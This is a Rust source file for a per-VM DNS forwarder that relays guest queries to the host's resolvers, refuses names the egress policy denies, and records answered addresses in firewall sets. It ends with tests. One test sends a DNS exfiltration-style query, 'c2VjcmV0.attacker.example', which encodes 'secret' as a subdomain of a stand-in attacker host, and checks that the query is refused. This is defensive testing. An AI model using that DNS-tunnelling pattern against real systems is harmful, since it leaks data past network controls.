//! The guest's DNS, resolved on the host. QEMU's user-mode stack forwards
//! the guest's queries (to `10.0.2.3`) to the resolver in the jail's
//! `/etc/resolv.conf`, which names this forwarder on the VM's host-side
//! address. It relays each query to the host's own resolvers (loopback
//! ones included, which the VM itself can never reach) and the answer
//! back, and only for its own VM: one task per VM, a bounded number of
//! queries in flight, small packets only. An answer for a name one of the
//! VM's hostname rules covers puts its addresses into that rule's set
//! before the guest gets it, so the rule follows what DNS answered.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use hickory_proto::op::{Message, Query};
use hickory_proto::rr::{Name, RData, RecordType};
use tokio::net::UdpSocket;
use tokio::sync::Semaphore;

use super::policy::{allow_all, Compiled};

/// The policy in force on one VM, shared with its forwarder.
pub(crate) type HostSets = Arc<parking_lot::RwLock<Compiled>>;

/// What a VM's forwarder starts with: everything resolves.
pub(crate) fn open_hosts() -> HostSets {
    Arc::new(parking_lot::RwLock::new(allow_all()))
}

/// The question's name of a DNS query.
fn query_name(msg: &[u8]) -> Option<String> {
    let msg = Message::from_vec(msg).ok()?;
    Some(msg.queries.first()?.name().to_ascii())
}

/// `query` answered REFUSED (RCODE 5), nothing else changed.
fn refused(query: &[u8]) -> Vec<u8> {
    let mut r = query.to_vec();
    r[2] |= 0x80;
    r[3] = (r[3] & 0xf0) | 5;
    r
}

/// Queries of one VM being answered at once; more are dropped (the guest
/// retries, as over any lossy network).
const MAX_IN_FLIGHT: usize = 64;
/// How long one upstream gets to answer.
const UPSTREAM_TIMEOUT: Duration = Duration::from_secs(3);
/// Largest DNS message relayed (EDNS0's common ceiling).
const MAX_MESSAGE: usize = 4096;

/// Resolvers of the host, from `/etc/resolv.conf`.
pub(crate) fn system_resolvers() -> Vec<SocketAddr> {
    let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    parse_resolv_conf(&text)
}

fn parse_resolv_conf(text: &str) -> Vec<SocketAddr> {
    text.lines()
        .filter_map(|l| l.trim().strip_prefix("nameserver"))
        .filter_map(|rest| rest.trim().split('%').next()?.parse::<IpAddr>().ok())
        .map(|ip| SocketAddr::new(ip, 53))
        .collect()
}

/// Binds the forwarder for one VM on `listen:53` and serves queries that
/// come from `guest` until the task is aborted.
pub(crate) async fn serve(
    listen: Ipv4Addr,
    guest: Ipv4Addr,
    upstreams: Vec<SocketAddr>,
    hosts: HostSets,
) -> std::io::Result<tokio::task::JoinHandle<()>> {
    let sock = Arc::new(UdpSocket::bind(SocketAddr::from((listen, 53))).await?);
    Ok(tokio::spawn(async move {
        let permits = Arc::new(Semaphore::new(MAX_IN_FLIGHT));
        let mut buf = vec![0u8; MAX_MESSAGE];
        loop {
            let (n, peer) = match sock.recv_from(&mut buf).await {
                Ok(x) => x,
                Err(e) => {
                    tracing::debug!(error = %e, "dns forwarder receive");
                    continue;
                }
            };
            if peer.ip() != IpAddr::V4(guest) || n < 12 {
                continue;
            }
            let Ok(permit) = permits.clone().try_acquire_owned() else {
                continue;
            };
            let query = buf[..n].to_vec();
            let (sock, upstreams, hosts) = (sock.clone(), upstreams.clone(), hosts.clone());
            tokio::spawn(async move {
                let _permit = permit;
                let resolves = match query_name(&query) {
                    Some(name) => hosts.read().resolves(&name),
                    None => false,
                };
                if !resolves {
                    let _ = sock.send_to(&refused(&query), peer).await;
                    return;
                }
                if let Some(answer) = ask(&query, &upstreams).await {
                    follow(&hosts, &answer).await;
                    let _ = sock.send_to(&answer, peer).await;
                }
            });
        }
    }))
}

/// Adds the IPv4 addresses of `answer` to the sets of the hostname rules
/// its question matches.
async fn follow(hosts: &HostSets, answer: &[u8]) {
    let sets: Vec<String> = {
        let hosts = hosts.read();
        if hosts.host_rules.is_empty() {
            return;
        }
        let Some(name) = query_name(answer) else {
            return;
        };
        hosts
            .host_rules
            .iter()
            .filter(|r| r.dest.matches_name(&name))
            .map(|r| r.set.clone())
            .collect()
    };
    if sets.is_empty() {
        return;
    }
    let addrs = a_records(answer);
    if addrs.is_empty() {
        return;
    }
    let script = super::nft::add_addresses(&sets, &addrs);
    if let Err(e) = super::nft::apply(&script).await {
        tracing::warn!(error = %e, "add answered addresses to a hostname rule");
    }
}

/// `(address, ttl)` of every A record in a DNS message.
pub(crate) fn a_records(msg: &[u8]) -> Vec<(Ipv4Addr, u32)> {
    let Ok(msg) = Message::from_vec(msg) else {
        return Vec::new();
    };
    msg.answers
        .iter()
        .filter_map(|r| match &r.data {
            RData::A(a) => Some((a.0, r.ttl)),
            _ => None,
        })
        .collect()
}

/// Resolves `host`'s IPv4 addresses through `upstreams` (not the host's
/// own resolver library: the same servers the guest's DNS uses).
pub(crate) async fn resolve(host: &str, upstreams: &[SocketAddr]) -> Vec<(Ipv4Addr, u32)> {
    let Ok(name) = Name::from_ascii(host) else {
        return Vec::new();
    };
    let mut q = Message::query();
    q.metadata.recursion_desired = true;
    q.add_query(Query::query(name, RecordType::A));
    let Ok(bytes) = q.to_vec() else {
        return Vec::new();
    };
    match ask(&bytes, upstreams).await {
        Some(answer) => a_records(&answer),
        None => Vec::new(),
    }
}

/// The first answer any upstream gives to `query` (same transaction id).
async fn ask(query: &[u8], upstreams: &[SocketAddr]) -> Option<Vec<u8>> {
    for up in upstreams {
        let local: SocketAddr = if up.is_ipv4() {
            (Ipv4Addr::UNSPECIFIED, 0).into()
        } else {
            (std::net::Ipv6Addr::UNSPECIFIED, 0).into()
        };
        let Ok(s) = UdpSocket::bind(local).await else {
            continue;
        };
        if s.connect(up).await.is_err() || s.send(query).await.is_err() {
            continue;
        }
        let mut buf = vec![0u8; MAX_MESSAGE];
        if let Ok(Ok(n)) = tokio::time::timeout(UPSTREAM_TIMEOUT, s.recv(&mut buf)).await {
            if n >= 12 && buf[..2] == query[..2] {
                buf.truncate(n);
                return Some(buf);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resolv_conf_nameservers_become_upstreams() {
        let text = "# generated\nsearch example\nnameserver 127.0.0.53\nnameserver fe80::1%eth0\n  nameserver 9.9.9.9\noptions edns0\n";
        assert_eq!(
            parse_resolv_conf(text),
            vec![
                "127.0.0.53:53".parse().unwrap(),
                "[fe80::1]:53".parse().unwrap(),
                "9.9.9.9:53".parse().unwrap()
            ]
        );
    }

    #[tokio::test]
    async fn relays_only_its_guests_queries_to_the_upstream() {
        // Upstream and "guest" on loopback addresses of their own.
        let upstream = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let up_addr = upstream.local_addr().unwrap();
        tokio::spawn(async move {
            let mut b = [0u8; 512];
            while let Ok((n, p)) = upstream.recv_from(&mut b).await {
                let mut reply = b[..n].to_vec();
                reply.extend_from_slice(b"answer");
                let _ = upstream.send_to(&reply, p).await;
            }
        });
        let listen: Ipv4Addr = "127.0.0.77".parse().unwrap();
        let guest: Ipv4Addr = "127.0.0.78".parse().unwrap();
        let hosts = open_hosts();
        let task = serve(listen, guest, vec![up_addr], hosts.clone())
            .await
            .unwrap();
        let query_for = |name: &str| {
            let mut q = Message::query();
            q.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
            q.to_vec().unwrap()
        };
        let query = query_for("api.example.com");

        let g = UdpSocket::bind((guest, 0)).await.unwrap();
        g.send_to(&query, (listen, 53)).await.unwrap();
        let mut b = [0u8; 512];
        let n = tokio::time::timeout(Duration::from_secs(5), g.recv(&mut b))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(&b[..n], [&query[..], b"answer"].concat().as_slice());

        let stranger = UdpSocket::bind("127.0.0.79:0").await.unwrap();
        stranger.send_to(&query, (listen, 53)).await.unwrap();
        let r = tokio::time::timeout(Duration::from_millis(500), stranger.recv(&mut b)).await;
        assert!(r.is_err(), "a query from another address is not answered");

        // Under a deny policy, only the names allowed by name resolve; the
        // rest are refused here and never reach the upstream.
        let policy: super::super::EgressPolicy = serde_json::from_str(
            r#"{"default_effect":"deny","rules":[{"effect":"allow","destination":"api.example.com"}]}"#,
        )
        .unwrap();
        *hosts.write() = policy.compile(9).unwrap();
        g.send_to(&query, (listen, 53)).await.unwrap();
        let n = g.recv(&mut b).await.unwrap();
        assert!(b[..n].ends_with(b"answer"), "allowed by name");
        let exfil = query_for("c2VjcmV0.attacker.example");
        g.send_to(&exfil, (listen, 53)).await.unwrap();
        let n = tokio::time::timeout(Duration::from_secs(5), g.recv(&mut b))
            .await
            .unwrap()
            .unwrap();
        assert!(!b[..n].ends_with(b"answer"), "never relayed");
        assert_eq!(b[3] & 0x0f, 5, "REFUSED");
        assert_eq!(b[..2], exfil[..2]);
        task.abort();
    }
}
